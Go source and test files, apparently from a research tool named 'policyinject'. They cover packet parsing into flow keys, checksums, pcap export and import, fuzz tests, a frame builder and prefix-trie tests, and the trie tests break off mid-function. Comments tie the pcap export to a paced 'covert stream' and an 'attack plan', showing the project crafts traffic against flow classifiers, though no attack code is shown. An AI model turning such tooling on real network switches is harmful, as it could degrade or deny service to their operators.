		return k, fmt.Errorf("%w: version %d in IPv6 packet", ErrBadVersion, v)
	}
	k.Set(flow.FieldIPTOS, uint64(b[0]&0x0f)<<4|uint64(b[1]>>4))
	proto := b[6] // next header; extension chains are not walked
	k.Set(flow.FieldIPProto, uint64(proto))
	k.Set(flow.FieldIPv6SrcHi, be64bytes(b[8:16]))
	k.Set(flow.FieldIPv6SrcLo, be64bytes(b[16:24]))
	k.Set(flow.FieldIPv6DstHi, be64bytes(b[24:32]))
	k.Set(flow.FieldIPv6DstLo, be64bytes(b[32:40]))
	return extractL4(b[IPv6HeaderLen:], proto, k)
}

func extractL4(b []byte, proto byte, k flow.Key) (flow.Key, error) {
	switch proto {
	case ProtoTCP:
		if len(b) < TCPHeaderLen {
			return k, fmt.Errorf("%w: TCP header", ErrTruncated)
		}
		k.Set(flow.FieldTPSrc, uint64(be16(b[0:2])))
		k.Set(flow.FieldTPDst, uint64(be16(b[2:4])))
		k.Set(flow.FieldTCPFlags, uint64(b[13]))
		return k, nil
	case ProtoUDP:
		if len(b) < UDPHeaderLen {
			return k, fmt.Errorf("%w: UDP header", ErrTruncated)
		}
		k.Set(flow.FieldTPSrc, uint64(be16(b[0:2])))
		k.Set(flow.FieldTPDst, uint64(be16(b[2:4])))
		return k, nil
	case ProtoICMP, ProtoICMPv6:
		if len(b) < 4 {
			return k, fmt.Errorf("%w: ICMP header", ErrTruncated)
		}
		k.Set(flow.FieldICMPType, uint64(b[0]))
		k.Set(flow.FieldICMPCode, uint64(b[1]))
		return k, nil
	default:
		return k, fmt.Errorf("%w: ip proto %d", ErrUnsupported, proto)
	}
}

// ExtractBatch parses a whole burst in one pass: frames[i], received on
// inPorts[i], is decoded into keys[i] and its parse outcome into errs[i]
// (nil for a clean decode). Unlike an early-return loop, a malformed frame
// never aborts the burst — every frame gets its own error slot, so the
// dataplane can account it and keep classifying the rest. The return value
// is the number of malformed frames (non-nil errs entries).
//
// The burst loop takes a fast path for the dominant wire shapes — IPv4
// with no options, no fragmentation, TCP or UDP, untagged or behind a
// single 802.1Q tag — amortising the parser's per-layer bounds checks into
// one length comparison per frame; anything else falls back to the full
// scalar decoder. The result is bit-identical to calling Extract frame by
// frame (keys and errors both), which the batch-equivalence property test
// pins.
//
// keys, errs and inPorts must all have len(frames); ExtractBatch panics
// otherwise rather than silently truncating the burst.
//
//lint:hotpath
func ExtractBatch(frames [][]byte, inPorts []uint32, keys []flow.Key, errs []error) int {
	if len(inPorts) != len(frames) || len(keys) != len(frames) || len(errs) != len(frames) {
		panic("pkt: ExtractBatch slice lengths disagree")
	}
	bad := 0
	for i, f := range frames {
		if k, ok := extractFast(f, inPorts[i]); ok {
			keys[i], errs[i] = k, nil
			continue
		}
		k, err := Extract(f, inPorts[i])
		keys[i], errs[i] = k, err
		if err != nil {
			bad++
		}
	}
	return bad
}

// Minimum frame lengths the fast path accepts for the two common L4s,
// untagged and single-VLAN-tagged.
const (
	fastUDPLen     = EthHeaderLen + IPv4HeaderLen + UDPHeaderLen
	fastTCPLen     = EthHeaderLen + IPv4HeaderLen + TCPHeaderLen
	fastVLANUDPLen = fastUDPLen + VLANTagLen
	fastVLANTCPLen = fastTCPLen + VLANTagLen
)

// fastField is a field's precomputed landing spot in a Key: word index and
// left shift. Derived from the flow field registry at init, so the fast
// path stays correct under layout changes; the batch==scalar property and
// fuzz tests pin the equivalence.
type fastField struct {
	w int
	s uint
}

func fastOf(id flow.FieldID) fastField {
	f := flow.FieldByID(id)
	return fastField{w: f.Word, s: uint(64 - f.Off - f.Bits)}
}

var (
	ffInPort   = fastOf(flow.FieldInPort)
	ffEthType  = fastOf(flow.FieldEthType)
	ffEthSrc   = fastOf(flow.FieldEthSrc)
	ffEthDst   = fastOf(flow.FieldEthDst)
	ffVLANTCI  = fastOf(flow.FieldVLANTCI)
	ffIPTOS    = fastOf(flow.FieldIPTOS)
	ffIPProto  = fastOf(flow.FieldIPProto)
	ffIPSrc    = fastOf(flow.FieldIPSrc)
	ffIPDst    = fastOf(flow.FieldIPDst)
	ffTPSrc    = fastOf(flow.FieldTPSrc)
	ffTPDst    = fastOf(flow.FieldTPDst)
	ffTCPFlags = fastOf(flow.FieldTCPFlags)
)

// extractFast decodes the common wire shapes — untagged or single-802.1Q
// IPv4, IHL 5, not a fragment, TCP or UDP — with a single bounds check per
// layer and the key words composed by plain ORs into the zero Key (every
// field value is already width-exact, so no per-field read-modify-write).
// It reports false for anything it does not handle, sending the frame to
// the full decoder. On success the key is exactly what Extract would
// produce.
func extractFast(frame []byte, inPort uint32) (flow.Key, bool) {
	var k flow.Key
	if len(frame) < fastUDPLen {
		return k, false
	}
	l3, minTCP := EthHeaderLen, fastTCPLen
	switch be16(frame[12:14]) {
	case EtherTypeIPv4:
	case EtherTypeVLAN:
		if len(frame) < fastVLANUDPLen || be16(frame[16:18]) != EtherTypeIPv4 {
			return k, false
		}
		k[ffVLANTCI.w] |= uint64(be16(frame[14:16])) << ffVLANTCI.s
		l3, minTCP = EthHeaderLen+VLANTagLen, fastVLANTCPLen
	default:
		return k, false
	}
	ip := frame[l3 : l3+IPv4HeaderLen+UDPHeaderLen]
	if ip[0] != 0x45 { // version 4, no options
		return k, false
	}
	if ip[6]&0x3f != 0 || ip[7] != 0 { // any fragment bits: full decoder
		return k, false
	}
	proto := ip[9]
	switch proto {
	case ProtoUDP:
	case ProtoTCP:
		if len(frame) < minTCP {
			return k, false
		}
	default:
		return k, false
	}
	k[ffInPort.w] |= uint64(inPort) << ffInPort.s
	k[ffEthType.w] |= uint64(EtherTypeIPv4) << ffEthType.s
	k[ffEthDst.w] |= mac48(frame[0:6]) << ffEthDst.s
	k[ffEthSrc.w] |= mac48(frame[6:12]) << ffEthSrc.s
	k[ffIPTOS.w] |= uint64(ip[1]) << ffIPTOS.s
	k[ffIPProto.w] |= uint64(proto) << ffIPProto.s
	k[ffIPSrc.w] |= uint64(be32(ip[12:16])) << ffIPSrc.s
	k[ffIPDst.w] |= uint64(be32(ip[16:20])) << ffIPDst.s
	k[ffTPSrc.w] |= uint64(be16(ip[20:22])) << ffTPSrc.s
	k[ffTPDst.w] |= uint64(be16(ip[22:24])) << ffTPDst.s
	if proto == ProtoTCP {
		k[ffTCPFlags.w] |= uint64(frame[l3+IPv4HeaderLen+13]) << ffTCPFlags.s
	}
	return k, true
}

func mac48(b []byte) uint64 {
	_ = b[5]
	return uint64(b[0])<<40 | uint64(b[1])<<32 | uint64(b[2])<<24 |
		uint64(b[3])<<16 | uint64(b[4])<<8 | uint64(b[5])
}

func be64bytes(b []byte) uint64 {
	_ = b[7]
	return uint64(b[0])<<56 | uint64(b[1])<<48 | uint64(b[2])<<40 | uint64(b[3])<<32 |
		uint64(b[4])<<24 | uint64(b[5])<<16 | uint64(b[6])<<8 | uint64(b[7])
}
