package pkt

// Checksum computes the RFC 1071 Internet checksum of b: the one's
// complement of the one's-complement sum of 16-bit words, with an odd
// trailing byte padded with zero.
func Checksum(b []byte) uint16 {
	return finish(sum1c(b, 0))
}

// PseudoChecksum computes a transport checksum over the IPv4 or IPv6
// pseudo-header (per RFC 793 / RFC 2460 §8.1) followed by the transport
// segment. src and dst are the raw address bytes (4 or 16 each).
func PseudoChecksum(src, dst []byte, proto uint8, segment []byte) uint16 {
	var s uint32
	s = sum1c(src, s)
	s = sum1c(dst, s)
	s += uint32(proto)
	s += uint32(len(segment))
	s = sum1c(segment, s)
	return finish(s)
}

// VerifyIPv4Header reports whether an IPv4 header (IHL-sized slice)
// checksums to zero, i.e. is intact.
func VerifyIPv4Header(hdr []byte) bool {
	return finish(sum1c(hdr, 0)) == 0
}

func sum1c(b []byte, acc uint32) uint32 {
	for len(b) >= 2 {
		acc += uint32(b[0])<<8 | uint32(b[1])
		b = b[2:]
	}
	if len(b) == 1 {
		acc += uint32(b[0]) << 8
	}
	return acc
}

func finish(s uint32) uint16 {
	for s>>16 != 0 {
		s = s&0xffff + s>>16
	}
	return ^uint16(s)
}
