package pkt

import (
	"encoding/binary"
	"fmt"
	"io"
)

// Minimal libpcap file support (stdlib only): enough to export the covert
// stream for external replay tools and to feed captures back through the
// dataplane. Classic format, microsecond resolution, LINKTYPE_ETHERNET.

const (
	pcapMagicLE   = 0xa1b2c3d4
	pcapMagicBE   = 0xd4c3b2a1
	pcapVersion   = 0x0002_0004 // major 2, minor 4
	pcapSnapLen   = 65535
	pcapLinkEther = 1
)

// WritePcap writes frames as a pcap capture. Timestamps are synthetic and
// deterministic: frame i is stamped i*spacingMicros microseconds from
// epoch, matching the paced covert stream (use the attack plan's PPS to
// pick the spacing).
func WritePcap(w io.Writer, frames [][]byte, spacingMicros uint32) error {
	hdr := make([]byte, 24)
	le := binary.LittleEndian
	le.PutUint32(hdr[0:4], pcapMagicLE)
	le.PutUint16(hdr[4:6], 2)
	le.PutUint16(hdr[6:8], 4)
	// thiszone, sigfigs left zero.
	le.PutUint32(hdr[16:20], pcapSnapLen)
	le.PutUint32(hdr[20:24], pcapLinkEther)
	if _, err := w.Write(hdr); err != nil {
		return fmt.Errorf("pkt: pcap header: %w", err)
	}
	rec := make([]byte, 16)
	var micros uint64
	for i, f := range frames {
		if len(f) > pcapSnapLen {
			return fmt.Errorf("pkt: frame %d exceeds snap length (%d bytes)", i, len(f))
		}
		le.PutUint32(rec[0:4], uint32(micros/1e6))
		le.PutUint32(rec[4:8], uint32(micros%1e6))
		le.PutUint32(rec[8:12], uint32(len(f)))
		le.PutUint32(rec[12:16], uint32(len(f)))
		if _, err := w.Write(rec); err != nil {
			return fmt.Errorf("pkt: pcap record %d: %w", i, err)
		}
		if _, err := w.Write(f); err != nil {
			return fmt.Errorf("pkt: pcap frame %d: %w", i, err)
		}
		micros += uint64(spacingMicros)
	}
	return nil
}

// ReadPcap parses a classic pcap capture, returning the frames. Both byte
// orders are accepted; the link type must be Ethernet.
func ReadPcap(r io.Reader) ([][]byte, error) {
	hdr := make([]byte, 24)
	if _, err := io.ReadFull(r, hdr); err != nil {
		return nil, fmt.Errorf("pkt: pcap header: %w", err)
	}
	var order binary.ByteOrder
	switch binary.LittleEndian.Uint32(hdr[0:4]) {
	case pcapMagicLE:
		order = binary.LittleEndian
	case pcapMagicBE:
		order = binary.BigEndian
	default:
		return nil, fmt.Errorf("pkt: not a pcap file (magic %#x)", binary.LittleEndian.Uint32(hdr[0:4]))
	}
	if major := order.Uint16(hdr[4:6]); major != 2 {
		return nil, fmt.Errorf("pkt: unsupported pcap version %d", major)
	}
	if link := order.Uint32(hdr[20:24]); link != pcapLinkEther {
		return nil, fmt.Errorf("pkt: unsupported link type %d (want Ethernet)", link)
	}
	var frames [][]byte
	rec := make([]byte, 16)
	for {
		if _, err := io.ReadFull(r, rec); err != nil {
			if err == io.EOF {
				return frames, nil
			}
			return nil, fmt.Errorf("pkt: pcap record %d: %w", len(frames), err)
		}
		incl := order.Uint32(rec[8:12])
		if incl > pcapSnapLen {
			return nil, fmt.Errorf("pkt: pcap record %d: absurd length %d", len(frames), incl)
		}
		f := make([]byte, incl)
		if _, err := io.ReadFull(r, f); err != nil {
			return nil, fmt.Errorf("pkt: pcap record %d body: %w", len(frames), err)
		}
		frames = append(frames, f)
	}
}
