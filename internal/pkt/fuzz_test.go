package pkt

import (
	"bytes"
	"net/netip"
	"testing"

	"policyinject/internal/flow"
)

// Go-native fuzz targets. Under plain `go test` the seed corpus runs as
// regression tests; `go test -fuzz=FuzzExtract ./internal/pkt` explores.

// FuzzExtract: the frame parser must never panic and must never read past
// its input, whatever bytes arrive from the wire.
func FuzzExtract(f *testing.F) {
	f.Add([]byte{})
	f.Add(MustBuild(Spec{
		Src: netip.MustParseAddr("10.0.0.1"), Dst: netip.MustParseAddr("10.0.0.2"),
		Proto: ProtoTCP, SrcPort: 1, DstPort: 2,
	}))
	f.Add(MustBuild(Spec{
		Src: netip.MustParseAddr("2001:db8::1"), Dst: netip.MustParseAddr("2001:db8::2"),
		Proto: ProtoUDP, SrcPort: 53, DstPort: 53,
	}))
	f.Add(MustBuild(Spec{
		Src: netip.MustParseAddr("10.0.0.1"), Dst: netip.MustParseAddr("10.0.0.2"),
		Proto: ProtoICMP, VLAN: 0x2001,
	}))
	f.Add(BuildARP(1, MAC{2, 0, 0, 0, 0, 1},
		netip.MustParseAddr("10.0.0.1"), netip.MustParseAddr("10.0.0.2"), MAC{}))
	f.Fuzz(func(t *testing.T, frame []byte) {
		k, err := Extract(frame, 7)
		if err == nil {
			// Successful parses must at least carry the in_port and a
			// known EtherType.
			if got := k.Get(flow.FieldInPort); got != 7 {
				t.Fatalf("in_port = %d", got)
			}
		}
	})
}

// FuzzExtractBatch: whatever two frames arrive from the wire, the burst
// decoder must agree bit-for-bit with a scalar Extract loop — same keys,
// same errors — including the fast-path/fallback boundary the split
// across two frames probes.
func FuzzExtractBatch(f *testing.F) {
	tcp := MustBuild(Spec{
		Src: netip.MustParseAddr("10.0.0.1"), Dst: netip.MustParseAddr("10.0.0.2"),
		Proto: ProtoTCP, SrcPort: 1, DstPort: 2,
	})
	udp := MustBuild(Spec{
		Src: netip.MustParseAddr("10.0.0.1"), Dst: netip.MustParseAddr("10.0.0.2"),
		Proto: ProtoUDP, SrcPort: 53, DstPort: 53,
	})
	f.Add([]byte{}, []byte{})
	f.Add(tcp, udp)
	f.Add(tcp[:20], tcp)
	f.Add(udp, MustBuild(Spec{
		Src: netip.MustParseAddr("2001:db8::1"), Dst: netip.MustParseAddr("2001:db8::2"),
		Proto: ProtoICMPv6, SrcPort: 128,
	}))
	f.Fuzz(func(t *testing.T, a, b []byte) {
		checkBatchEqualsScalar(t, [][]byte{a, b}, []uint32{3, 9})
	})
}

// FuzzPcapRead: the capture parser must never panic and, for files our own
// writer produced, must round-trip exactly.
func FuzzPcapRead(f *testing.F) {
	var buf bytes.Buffer
	WritePcap(&buf, [][]byte{
		MustBuild(Spec{
			Src: netip.MustParseAddr("10.0.0.1"), Dst: netip.MustParseAddr("10.0.0.2"),
			Proto: ProtoTCP, SrcPort: 1, DstPort: 2,
		}),
	}, 100)
	f.Add(buf.Bytes())
	f.Add([]byte{})
	f.Add(make([]byte, 24))
	f.Fuzz(func(t *testing.T, data []byte) {
		frames, err := ReadPcap(bytes.NewReader(data))
		if err != nil {
			return
		}
		// Whatever parsed must re-serialise and re-parse identically.
		var out bytes.Buffer
		if err := WritePcap(&out, frames, 1); err != nil {
			t.Fatalf("re-write failed: %v", err)
		}
		again, err := ReadPcap(&out)
		if err != nil {
			t.Fatalf("re-read failed: %v", err)
		}
		if len(again) != len(frames) {
			t.Fatalf("round trip changed frame count %d -> %d", len(frames), len(again))
		}
	})
}
