package pkt

import (
	"fmt"
	"net/netip"
)

// Spec describes a frame to build. Zero values are sensible: omitting MACs
// produces locally-administered placeholder addresses, omitting TTL uses
// 64, and PayloadLen pads with zero bytes. FrameLen, when non-zero, pads
// the final frame (including headers) up to the given total length, the
// knob the traffic generators use for MTU-sized vs minimum-sized packets.
type Spec struct {
	SrcMAC, DstMAC MAC
	VLAN           uint16 // 802.1Q TCI; 0 means untagged

	Src, Dst netip.Addr // both IPv4 or both IPv6
	Proto    uint8      // ProtoTCP, ProtoUDP, ProtoICMP, ProtoICMPv6
	TOS      uint8
	TTL      uint8 // default 64

	SrcPort, DstPort uint16 // TCP/UDP ports, or ICMP type/code
	TCPFlags         uint8  // default SYN for TCP
	Seq              uint32 // TCP sequence number

	PayloadLen int
	FrameLen   int // total frame length to pad to (0 = minimal)
	Payload    []byte
}

var defaultSrcMAC = MAC{0x02, 0x00, 0x00, 0x00, 0x00, 0x01}
var defaultDstMAC = MAC{0x02, 0x00, 0x00, 0x00, 0x00, 0x02}

// Build constructs the frame described by s, with correct length fields and
// checksums.
func Build(s Spec) ([]byte, error) {
	if !s.Src.IsValid() || !s.Dst.IsValid() {
		return nil, fmt.Errorf("pkt: spec needs both src and dst IP")
	}
	v4 := s.Src.Unmap().Is4()
	if v4 != s.Dst.Unmap().Is4() {
		return nil, fmt.Errorf("pkt: src/dst address family mismatch")
	}

	payload := s.Payload
	if payload == nil && s.PayloadLen > 0 {
		payload = make([]byte, s.PayloadLen)
	}

	var l4 []byte
	switch s.Proto {
	case ProtoTCP:
		l4 = buildTCP(s, payload)
	case ProtoUDP:
		l4 = buildUDP(s, payload)
	case ProtoICMP, ProtoICMPv6:
		l4 = buildICMP(s, payload)
	default:
		return nil, fmt.Errorf("%w: proto %d", ErrUnsupported, s.Proto)
	}

	var l3 []byte
	if v4 {
		l3 = buildIPv4(s, l4)
	} else {
		l3 = buildIPv6(s, l4)
	}
	// L4 checksum needs the pseudo-header, hence after L3 assembly.
	finishL4Checksum(s, v4, l3)

	frame := buildEth(s, v4, l3)
	if s.FrameLen > len(frame) {
		padded := make([]byte, s.FrameLen)
		copy(padded, frame)
		frame = padded
	}
	return frame, nil
}

// MustBuild is Build for tests and generators with known-good specs.
func MustBuild(s Spec) []byte {
	f, err := Build(s)
	if err != nil {
		panic(err)
	}
	return f
}

func buildEth(s Spec, v4 bool, l3 []byte) []byte {
	ethType := uint16(EtherTypeIPv6)
	if v4 {
		ethType = EtherTypeIPv4
	}
	src, dst := s.SrcMAC, s.DstMAC
	if src == (MAC{}) {
		src = defaultSrcMAC
	}
	if dst == (MAC{}) {
		dst = defaultDstMAC
	}
	hlen := EthHeaderLen
	if s.VLAN != 0 {
		hlen += VLANTagLen
	}
	frame := make([]byte, hlen+len(l3))
	copy(frame[0:6], dst[:])
	copy(frame[6:12], src[:])
	if s.VLAN != 0 {
		put16(frame[12:14], EtherTypeVLAN)
		put16(frame[14:16], s.VLAN)
		put16(frame[16:18], ethType)
	} else {
		put16(frame[12:14], ethType)
	}
	copy(frame[hlen:], l3)
	return frame
}

func buildIPv4(s Spec, l4 []byte) []byte {
	b := make([]byte, IPv4HeaderLen+len(l4))
	b[0] = 0x45 // version 4, IHL 5
	b[1] = s.TOS
	put16(b[2:4], uint16(len(b)))
	b[8] = s.TTL
	if b[8] == 0 {
		b[8] = 64
	}
	b[9] = s.Proto
	src, dst := s.Src.Unmap().As4(), s.Dst.Unmap().As4()
	copy(b[12:16], src[:])
	copy(b[16:20], dst[:])
	put16(b[10:12], Checksum(b[:IPv4HeaderLen]))
	copy(b[IPv4HeaderLen:], l4)
	return b
}

func buildIPv6(s Spec, l4 []byte) []byte {
	b := make([]byte, IPv6HeaderLen+len(l4))
	b[0] = 0x60 | s.TOS>>4
	b[1] = s.TOS << 4
	put16(b[4:6], uint16(len(l4)))
	b[6] = s.Proto
	b[7] = s.TTL
	if b[7] == 0 {
		b[7] = 64
	}
	src, dst := s.Src.As16(), s.Dst.As16()
	copy(b[8:24], src[:])
	copy(b[24:40], dst[:])
	copy(b[IPv6HeaderLen:], l4)
	return b
}

func buildTCP(s Spec, payload []byte) []byte {
	b := make([]byte, TCPHeaderLen+len(payload))
	put16(b[0:2], s.SrcPort)
	put16(b[2:4], s.DstPort)
	put32(b[4:8], s.Seq)
	b[12] = 5 << 4 // data offset: 5 words
	flags := s.TCPFlags
	if flags == 0 {
		flags = TCPSyn
	}
	b[13] = flags
	put16(b[14:16], 65535) // window
	copy(b[TCPHeaderLen:], payload)
	return b
}

func buildUDP(s Spec, payload []byte) []byte {
	b := make([]byte, UDPHeaderLen+len(payload))
	put16(b[0:2], s.SrcPort)
	put16(b[2:4], s.DstPort)
	put16(b[4:6], uint16(len(b)))
	copy(b[UDPHeaderLen:], payload)
	return b
}

func buildICMP(s Spec, payload []byte) []byte {
	b := make([]byte, ICMPHeaderLen+len(payload))
	b[0] = byte(s.SrcPort) // type
	b[1] = byte(s.DstPort) // code
	copy(b[ICMPHeaderLen:], payload)
	return b
}

// finishL4Checksum fills the transport checksum in an assembled L3 packet.
func finishL4Checksum(s Spec, v4 bool, l3 []byte) {
	var l4 []byte
	var srcB, dstB []byte
	if v4 {
		l4 = l3[IPv4HeaderLen:]
		srcB, dstB = l3[12:16], l3[16:20]
	} else {
		l4 = l3[IPv6HeaderLen:]
		srcB, dstB = l3[8:24], l3[24:40]
	}
	switch s.Proto {
	case ProtoTCP:
		put16(l4[16:18], 0)
		put16(l4[16:18], PseudoChecksum(srcB, dstB, s.Proto, l4))
	case ProtoUDP:
		put16(l4[6:8], 0)
		ck := PseudoChecksum(srcB, dstB, s.Proto, l4)
		if ck == 0 {
			ck = 0xffff // RFC 768: transmitted zero means "no checksum"
		}
		put16(l4[6:8], ck)
	case ProtoICMP:
		put16(l4[2:4], 0)
		put16(l4[2:4], Checksum(l4))
	case ProtoICMPv6:
		put16(l4[2:4], 0)
		put16(l4[2:4], PseudoChecksum(srcB, dstB, s.Proto, l4))
	}
}

// BuildARP constructs an ARP request/reply frame (op 1 or 2).
func BuildARP(op uint16, srcMAC MAC, srcIP, dstIP netip.Addr, dstMAC MAC) []byte {
	b := make([]byte, EthHeaderLen+ARPLen)
	bcast := MAC{0xff, 0xff, 0xff, 0xff, 0xff, 0xff}
	target := dstMAC
	if op == 1 {
		target = MAC{}
	}
	ethDst := dstMAC
	if op == 1 {
		ethDst = bcast
	}
	copy(b[0:6], ethDst[:])
	copy(b[6:12], srcMAC[:])
	put16(b[12:14], EtherTypeARP)
	a := b[EthHeaderLen:]
	put16(a[0:2], 1)      // htype ethernet
	put16(a[2:4], 0x0800) // ptype IPv4
	a[4], a[5] = 6, 4
	put16(a[6:8], op)
	copy(a[8:14], srcMAC[:])
	sip, dip := srcIP.Unmap().As4(), dstIP.Unmap().As4()
	copy(a[14:18], sip[:])
	copy(a[18:24], target[:])
	copy(a[24:28], dip[:])
	return b
}
