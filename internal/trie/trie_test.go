package trie

import (
	"math/rand"
	"testing"
	"testing/quick"
)

func TestInsertLookupExact(t *testing.T) {
	tr := New(8)
	tr.Insert(0x0a, 8) // 00001010 — the paper's first-octet example

	r := tr.Lookup(0x0a, 8)
	if !r.CanMatch || r.CheckBits != 8 {
		t.Fatalf("exact value: %+v", r)
	}
}

// TestFig2bDivergenceDepths verifies the exact divergence behaviour behind
// paper Fig. 2b: with the single stored prefix 00001010/8, a probe value
// diverging first at bit position i (0-based) must be rejected after
// examining exactly i+1 bits.
func TestFig2bDivergenceDepths(t *testing.T) {
	tr := New(8)
	tr.Insert(0x0a, 8) // 00001010

	cases := []struct {
		value     uint64
		wantBits  int
		wantMatch bool
	}{
		{0x80, 1, false}, // 1******* diverges at bit 0
		{0x40, 2, false}, // 01******
		{0x20, 3, false}, // 001*****
		{0x10, 4, false}, // 0001****
		{0x00, 5, false}, // 00000*** (allow value has 1 at bit 4)
		{0x0c, 6, false}, // 000011**
		{0x08, 7, false}, // 0000100*
		{0x0b, 8, false}, // 00001011 — full examination, still a miss
		{0x0a, 8, true},  // the allow value itself
	}
	for _, c := range cases {
		r := tr.Lookup(c.value, 8)
		if r.CanMatch != c.wantMatch || r.CheckBits != c.wantBits {
			t.Errorf("Lookup(%#08b): got %+v, want CanMatch=%v CheckBits=%d",
				c.value, r, c.wantMatch, c.wantBits)
		}
	}
}

func TestLookupShorterPlen(t *testing.T) {
	tr := New(32)
	tr.Insert(0x0a000000, 8) // 10.0.0.0/8
	// A /8 query for any 10.x address matches after 8 bits.
	r := tr.Lookup(0x0a636363, 8)
	if !r.CanMatch || r.CheckBits != 8 {
		t.Fatalf("10.99.99.99 vs 10/8: %+v", r)
	}
	// A /16 query walks past the stored terminal and falls off at bit 8.
	r = tr.Lookup(0x0a636363, 16)
	if r.CanMatch || r.CheckBits != 9 {
		t.Fatalf("/16 query over /8 store: %+v", r)
	}
}

func TestLookupPlenZero(t *testing.T) {
	tr := New(16)
	r := tr.Lookup(0x1234, 0)
	if r.CanMatch || r.CheckBits != 0 {
		t.Fatalf("empty trie, plen 0: %+v", r)
	}
	tr.Insert(0, 0) // catch-all prefix
	r = tr.Lookup(0x1234, 0)
	if !r.CanMatch || r.CheckBits != 0 {
		t.Fatalf("catch-all prefix: %+v", r)
	}
}

func TestRemovePrunes(t *testing.T) {
	tr := New(32)
	tr.Insert(0x0a000000, 8)
	tr.Insert(0x0a010000, 16)
	if tr.Len() != 2 {
		t.Fatalf("Len = %d", tr.Len())
	}
	if !tr.Remove(0x0a010000, 16) {
		t.Fatal("Remove /16 failed")
	}
	// The /8 must be intact, and lookups beyond it must now diverge at 9.
	if r := tr.Lookup(0x0a010000, 8); !r.CanMatch {
		t.Fatal("/8 lost after removing /16")
	}
	if r := tr.Lookup(0x0a010000, 16); r.CanMatch || r.CheckBits != 9 {
		t.Fatalf("pruning left stale path: %+v", r)
	}
	if tr.Remove(0x0a010000, 16) {
		t.Fatal("Remove of absent prefix reported success")
	}
}

func TestRefcounting(t *testing.T) {
	tr := New(16)
	tr.Insert(0xabcd, 16)
	tr.Insert(0xabcd, 16)
	if !tr.Remove(0xabcd, 16) {
		t.Fatal("first remove failed")
	}
	if r := tr.Lookup(0xabcd, 16); !r.CanMatch {
		t.Fatal("prefix vanished while still referenced")
	}
	if !tr.Remove(0xabcd, 16) {
		t.Fatal("second remove failed")
	}
	if r := tr.Lookup(0xabcd, 16); r.CanMatch {
		t.Fatal("prefix survived final remove")
	}
}

func TestIgnoresBitsBelowPrefix(t *testing.T) {
	tr := New(32)
	tr.Insert(0x0affffff, 8) // junk below /8 must be ignored
	r := tr.Lookup(0x0a000001, 8)
	if !r.CanMatch {
		t.Fatalf("low bits of inserted value leaked into trie: %+v", r)
	}
}

func TestNewPanicsOnBadWidth(t *testing.T) {
	for _, w := range []int{0, -1, 65} {
		func() {
			defer func() {
				if recover() == nil {
					t.Errorf("New(%d) did not panic", w)
				}
			}()
			New(w)
		}()
	}
}

func TestLookupPanicsOnBadPlen(t *testing.T) {
	tr := New(8)
	defer func() {
		if recover() == nil {
			t.Fatal("Lookup with plen > width did not panic")
		}
	}()
	tr.Lookup(0, 9)
}

func TestPrefixesEnumeration(t *testing.T) {
	tr := New(8)
	tr.Insert(0x0a, 8)
	tr.Insert(0x0a, 8)
	tr.Insert(0x80, 1)
	ps := tr.Prefixes()
	if len(ps) != 2 {
		t.Fatalf("Prefixes() = %v", ps)
	}
	// Lexicographic: 00001010/8 before 1/1.
	if ps[0].Value != 0x0a || ps[0].Len != 8 || ps[0].Count != 2 {
		t.Errorf("first prefix: %+v", ps[0])
	}
	if ps[1].Value != 0x80 || ps[1].Len != 1 || ps[1].Count != 1 {
		t.Errorf("second prefix: %+v", ps[1])
	}
}

// reference is a naive prefix store used to cross-check the trie.
type reference struct {
	width    int
	prefixes []Prefix
}

func (r *reference) insert(v uint64, plen int) {
	v = topBits(v, plen, r.width)
	for i := range r.prefixes {
		if r.prefixes[i].Value == v && r.prefixes[i].Len == plen {
			r.prefixes[i].Count++
			return
		}
	}
	r.prefixes = append(r.prefixes, Prefix{Value: v, Len: plen, Count: 1})
}

func topBits(v uint64, plen, width int) uint64 {
	if plen == 0 {
		return 0
	}
	keep := ^uint64(0) << uint(width-plen)
	if width < 64 {
		keep &= (1 << uint(width)) - 1
	}
	return v & keep
}

func (r *reference) lookup(v uint64, plen int) Result {
	// CanMatch: some stored prefix with Len == plen agrees on plen bits.
	for _, p := range r.prefixes {
		if p.Len == plen && topBits(v, plen, r.width) == p.Value {
			return Result{CanMatch: true, CheckBits: plen}
		}
	}
	// CheckBits: 1 + length of the longest stored-prefix path v follows,
	// capped at plen. Equivalently the first depth d where no stored
	// prefix agrees with v on d+1 leading bits (prefixes shorter than d+1
	// agree only if their whole length agrees and they extend... the trie
	// path exists wherever any stored prefix shares that many leading
	// bits).
	d := 0
	for d < plen {
		any := false
		for _, p := range r.prefixes {
			if p.Len >= d+1 && topBits(v, d+1, r.width) == topBits(p.Value, d+1, r.width) {
				any = true
				break
			}
		}
		if !any {
			return Result{CanMatch: false, CheckBits: d + 1}
		}
		d++
	}
	return Result{CanMatch: false, CheckBits: plen}
}

// TestTrieMatchesReference drives random insert/remove/lookup traffic and
// cross-checks every lookup against the naive reference store.
func TestTrieMatchesReference(t *testing.T) {
	rng := rand.New(rand.NewSource(42))
	const width = 16
	tr := New(width)
	ref := &reference{width: width}

	type stored struct {
		v    uint64
		plen int
	}
	var live []stored

	for step := 0; step < 5000; step++ {
		switch op := rng.Intn(10); {
		case op < 4: // insert
			v := rng.Uint64() & 0xffff
			plen := rng.Intn(width + 1)
			tr.Insert(v, plen)
			ref.insert(v, plen)
			live = append(live, stored{v, plen})
		case op < 6 && len(live) > 0: // remove
			i := rng.Intn(len(live))
			s := live[i]
			if !tr.Remove(s.v, s.plen) {
				t.Fatalf("step %d: Remove(%#x/%d) failed", step, s.v, s.plen)
			}
			for j := range ref.prefixes {
				if ref.prefixes[j].Value == topBits(s.v, s.plen, width) && ref.prefixes[j].Len == s.plen {
					ref.prefixes[j].Count--
					if ref.prefixes[j].Count == 0 {
						ref.prefixes = append(ref.prefixes[:j], ref.prefixes[j+1:]...)
					}
					break
				}
			}
			live = append(live[:i], live[i+1:]...)
		default: // lookup
			v := rng.Uint64() & 0xffff
			plen := rng.Intn(width + 1)
			got := tr.Lookup(v, plen)
			want := ref.lookup(v, plen)
			if got != want {
				t.Fatalf("step %d: Lookup(%#x, %d) = %+v, reference %+v\nstore: %v",
					step, v, plen, got, want, ref.prefixes)
			}
		}
	}
}

// Property: after inserting a single prefix of length L, every probe value
// yields CheckBits in [1, L] (or [0,0] for L=0), and CheckBits == L when
// the probe shares L-1 leading bits with the prefix.
func TestDivergenceDepthBounds(t *testing.T) {
	prop := func(seed uint64, plenRaw uint8) bool {
		const width = 32
		plen := int(plenRaw%width) + 1 // 1..32
		tr := New(width)
		tr.Insert(seed, plen)
		probe := seed ^ 0xdeadbeef
		r := tr.Lookup(probe&0xffffffff, plen)
		return r.CheckBits >= 1 && r.CheckBits <= plen
	}
